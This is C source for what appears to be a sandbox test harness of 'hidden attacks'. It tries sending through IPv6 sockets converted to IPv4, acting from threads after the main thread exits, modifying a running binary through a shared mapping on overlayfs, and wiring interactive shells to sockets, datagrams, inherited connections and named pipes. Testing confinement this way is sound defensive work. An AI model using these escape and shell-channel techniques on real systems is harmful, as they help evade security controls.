#include "novel.h"
#include <arpa/inet.h>
#include <linux/in6.h>
#include <netinet/in.h>
#include <poll.h>

#ifndef IPV6_ADDRFORM
#define IPV6_ADDRFORM 1
#endif

/* reformed HOW IP PORT: an IPv6 socket that became one of IPv4, which takes an
 * address without a family for its own. */
static int reformed(int argc, char **argv)
{
	struct sockaddr_in6 near = { .sin6_family = AF_INET6, .sin6_port = htons(4000) };
	struct sockaddr_in to = { .sin_port = htons(atoi(argv[2])) };
	struct iovec v = { "x", 1 };
	struct mmsghdr m = { .msg_hdr = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &v, .msg_iovlen = 1 } };
	int fd = socket(AF_INET6, SOCK_DGRAM, 0), four = AF_INET;
	inet_pton(AF_INET6, "::ffff:127.0.0.1", &near.sin6_addr);
	inet_pton(AF_INET, argv[1], &to.sin_addr);
	if (connect(fd, (void *)&near, sizeof near) < 0 || setsockopt(fd, IPPROTO_IPV6, IPV6_ADDRFORM, &four, sizeof four) < 0) {
		printf("not reformed\n");
		return -1;
	}
	if (!strcmp(argv[0], "sendto"))
		return sendto(fd, "x", 1, 0, (void *)&to, sizeof to) < 0 ? -1 : 0;
	if (!strcmp(argv[0], "sendmsg"))
		return sendmsg(fd, &m.msg_hdr, 0) < 0 ? -1 : 0;
	return sendmmsg(fd, &m, 1, 0) < 0 ? -1 : 0;
}

/* label: a lease of a flow label, whose options may hold a source route. */
static int label(int argc, char **argv)
{
	struct in6_flowlabel_req r = { .flr_label = htonl(0x12345), .flr_action = 0, .flr_share = 1, .flr_flags = 1 };
	r.flr_dst.s6_addr[15] = 1;
	return setsockopt(socket(AF_INET6, SOCK_DGRAM, 0), IPPROTO_IPV6, 32, &r, sizeof r);
}

struct job {
	int argc, result, error;
	char **argv;
};

static int run(int argc, char **argv)
{
	const struct attack *all[] = { net_attacks, file_attacks, self_attacks, exec_attacks, more_attacks, late_attacks, hidden_attacks, seam_attacks };
	for (int i = 0; i < 8; i++)
		for (const struct attack *a = all[i]; a->name; a++)
			if (!strcmp(a->name, argv[0]))
				return a->run(argc - 1, argv + 1);
	printf("unknown attack\n");
	return -1;
}

/* thread runs an attack and ends the process by itself: nobody else can. */
static void *thread(void *x)
{
	struct job *j = x;
	if (!strcmp(j->argv[0], "exited"))
		usleep(100000);
	else
		syscall(436, 1000000, 1000000, 2); /* close_range, with a table of one's own */
	if (run(j->argc - 1, j->argv + 1) == 0) {
		printf("worked %s\n", j->argv[1]);
		printf("worked behind\n");
		exit(0);
	}
	printf("errno %d %s\n", errno, strerror(errno));
	exit(1);
}

/* behind exited|table ATTACK...: by a thread of a process whose first one has
 * ended, or which does not share its descriptors with that. */
static int behind(int argc, char **argv)
{
	static struct job j;
	pthread_t t;
	j.argc = argc, j.argv = argv;
	if (pthread_create(&t, NULL, thread, &j))
		return -1;
	if (!strcmp(argv[0], "exited"))
		syscall(SYS_exit, 0);
	pause();
	return -1;
}

/* carries IP PORT SHELL: connects, and puts a shell behind pipes. */
static int carries(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(atoi(argv[1])) };
	char b[128] = "";
	int in[2], out[2], fd = socket(AF_INET, SOCK_STREAM, 0), n;
	inet_pton(AF_INET, argv[0], &a.sin_addr);
	if (connect(fd, (void *)&a, sizeof a) < 0 || recv(fd, b, sizeof b, 0) <= 0)
		return -1;
	pipe2(in, O_CLOEXEC);
	pipe2(out, O_CLOEXEC);
	if (fork() == 0) {
		dup2(in[0], 0);
		dup2(out[1], 1);
		execl(argv[2], "sh", "-i", NULL);
		_exit(1);
	}
	close(out[1]);
	write(in[1], "hello\n", 6);
	errno = EPERM;
	if ((n = read(out[0], b, sizeof b - 1)) <= 0)
		return -1;
	b[n] = 0;
	printf("%s\n", b);
	return 0;
}

/* kept PROGRAM how [N]: with N mappings beside that one it is started while a mapping can change it, whose descriptor is
 * closed: on overlayfs the kernel allows it. */
static int kept(int argc, char **argv)
{
	int fd = open(argv[0], O_RDWR), st;
	char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
	if (p == MAP_FAILED)
		return -1;
	close(fd);
	for (int i = argc > 2 ? atoi(argv[2]) : 0; i > 0; i--) /* they lie below it */
		mmap(NULL, 4096, i & 1 ? PROT_READ : PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	*(volatile char *)p = *p;
	if (!strcmp(argv[1], "later"))
		mprotect(p, 4096, PROT_READ); /* and back, when it runs */
	if (fork() == 0) {
		execl(argv[0], argv[0], "no-attack", NULL);
		_exit(errno);
	}
	wait(&st);
	errno = WIFEXITED(st) ? WEXITSTATUS(st) : EPERM;
	return errno == 99 ? 0 : -1;
}

/* commanded KIND SHELL: a shell whose input is a socket without a connection of
 * TCP or UDP; who knows its port tells it what to do. */
static int commanded(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001) }, b = a;
	socklen_t n = sizeof a;
	int lite = !strncmp(argv[0], "lite", 4) ? IPPROTO_UDPLITE : 0, out[2], pid;
	int fd = socket(AF_INET, SOCK_DGRAM, lite), from = socket(AF_INET, SOCK_DGRAM, lite);
	char line[64] = "";
	bind(fd, (void *)&a, sizeof a);
	bind(from, (void *)&b, sizeof b);
	getsockname(fd, (void *)&a, &n);
	getsockname(from, (void *)&b, &n);
	if (!strcmp(argv[0], "portless"))
		b.sin_port = 0;
	if (strcmp(argv[0], "bound") && connect(fd, (void *)&b, sizeof b) < 0 || connect(from, (void *)&a, sizeof a) < 0)
		return -1;
	pipe2(out, O_CLOEXEC);
	if ((pid = fork()) == 0) {
		dup2(fd, 0);
		dup2(out[1], 1);
		execl(argv[1], "sh", "-i", NULL);
		_exit(1);
	}
	close(out[1]);
	send(from, "hello\n", 6, 0);
	struct pollfd p = { out[0], POLLIN };
	n = poll(&p, 1, 5000) > 0 ? read(out[0], line, sizeof line - 1) : 0;
	kill(pid, SIGKILL);
	wait(NULL);
	errno = EPERM;
	if (strncmp(line, "shell-ran", 9))
		return -1;
	printf("%s\n", line);
	return 0;
}

/* adopts connection|fifo SHELL: a shell that reads a file puts in the place of its input
 * a connection that it inherited, or a named pipe of somebody who has one. */
static int adopts(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(0x7f000001) };
	socklen_t n = sizeof a;
	int l = socket(AF_INET, SOCK_STREAM, 0), c = socket(AF_INET, SOCK_STREAM, 0), fifo = !strcmp(argv[0], "fifo"), far, pid, st, out[2];
	char line[64] = "";
	bind(l, (void *)&a, sizeof a);
	listen(l, 1);
	getsockname(l, (void *)&a, &n);
	if (connect(c, (void *)&a, sizeof a) < 0)
		return -1;
	fcntl(far = accept(l, NULL, NULL), F_SETFD, FD_CLOEXEC);
	fcntl(l, F_SETFD, FD_CLOEXEC);
	unlink("/tmp/drop/adopts");
	unlink("/tmp/drop/adopted");
	mkfifo("/tmp/drop/adopted", 0666);
	int file = open("/tmp/drop/adopts", O_CREAT | O_RDWR, 0666);
	const char *words = fifo ? "exec 0</tmp/drop/adopted\n" : "exec 0<&9\n";
	write(file, words, strlen(words));
	lseek(file, 0, SEEK_SET);
	pipe2(out, O_CLOEXEC);
	if ((pid = fork()) == 0) {
		dup2(file, 0);
		dup2(out[1], 1);
		if (fifo)
			close(c);
		else
			dup2(c, 9);
		execl(argv[1], argv[1], NULL);
		_exit(1);
	}
	close(out[1]);
	if (fifo)
		far = open("/tmp/drop/adopted", O_WRONLY | O_CLOEXEC);
	else
		close(c);
	sleep(4); /* nobody says when it was looked at */
	signal(SIGPIPE, SIG_IGN);
	write(far, "echo shell-ran; exit\n", 21);
	struct pollfd p = { out[0], POLLIN };
	if (poll(&p, 1, 3000) > 0)
		read(out[0], line, sizeof line - 1);
	kill(pid, SIGKILL);
	waitpid(pid, &st, 0);
	errno = EPERM;
	if (strncmp(line, "shell-ran", 9))
		return -1;
	printf("%s\n", line);
	return 0;
}

const struct attack hidden_attacks[] = { { "reformed", reformed }, { "label", label }, { "behind", behind }, { "carries", carries }, { "kept", kept }, { "commanded", commanded }, { "adopts", adopts }, { 0 } };
